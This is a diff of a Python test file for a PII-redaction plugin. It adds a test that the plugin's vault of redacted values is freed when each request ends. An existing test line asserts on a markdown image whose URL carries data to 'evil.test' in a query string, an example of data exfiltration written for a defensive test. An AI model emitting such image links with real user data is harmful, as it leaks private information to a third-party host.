@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gc
 import json
 import logging
 from typing import Any, ClassVar
@@ -20,7 +21,7 @@ from sentinel_core.testing.harness import stage_config
 from sentinel_core.testing.replies import chunk, completion
 from sentinel_plugins.guarding.stage import OFF_LOOP_CHARS
 from sentinel_plugins.pii.stage import Pii
-from sentinel_plugins.pii.vault import VAULT
+from sentinel_plugins.pii.vault import VAULT, Vault
 from tests.plugins.guarding.guards import MAIL, SECRETS, Guards, Table, everywhere, guards, sent, verdicts
 from tests.plugins.pii.reversing import KEY, REVERSIBLE, Parrot, placeholders, reversing
 
@@ -103,6 +104,20 @@ async def test_never_into_the_target_of_a_link_or_an_image(stream: bool) -> None
         driven = await chain.ask("ann@acme.com", stream=stream)
         (text,) = placeholders(sent(driven))
         assert driven.text == f"![x](https://evil.test/?q={text}) said ann@acme.com"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_the_vault_dies_with_the_request(stream: bool) -> None:
+    """At once, and not when the garbage collector comes by."""
+    async with reversing(Parrot()) as chain:
+        gc.collect()
+        gc.disable()
+        try:
+            assert (await chain.ask(TEXT, stream=stream)).text == TEXT
+            chain.provider.calls.clear()  # a provider of the tests keeps them
+            assert [one for one in gc.get_objects() if isinstance(one, Vault)] == []
+        finally:
+            gc.enable()
 
 
 async def test_the_same_value_gets_the_same_placeholder_in_every_slot() -> None:
